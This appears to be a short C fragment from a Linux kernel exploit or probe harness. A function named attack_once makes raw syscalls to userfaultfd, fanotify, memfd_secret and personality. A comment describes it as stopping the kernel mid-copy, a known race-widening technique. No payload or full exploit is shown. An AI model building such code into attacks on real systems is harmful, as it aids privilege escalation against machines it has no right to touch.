// Stops the kernel in the middle of a copy.
static void attack_once() {
    TRY("userfaultfd", sys(323, 1));
    TRY("fanotify", sys(300, 0, 0));
    TRY("memfd_secret", sys(447, 0));
    TRY("personality", sys(135, 0x0040000));
}
